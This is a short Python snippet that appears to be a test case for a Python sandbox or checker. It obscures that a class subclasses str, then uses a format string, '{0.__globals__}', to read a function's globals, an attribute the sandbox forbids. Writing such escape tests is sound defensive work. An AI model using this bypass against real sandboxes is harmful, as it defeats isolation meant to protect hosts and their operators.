# The method by super, in a class whose base is not seen to be a string.
# reaches: the text of a forbidden attribute
# proof: "__main__" in REACHED
Base = [str][0]


class Text(Base):
    def show(self, value):
        return super().format(value)


REACHED = Text("{0.__globals__}").show(lambda: 0)
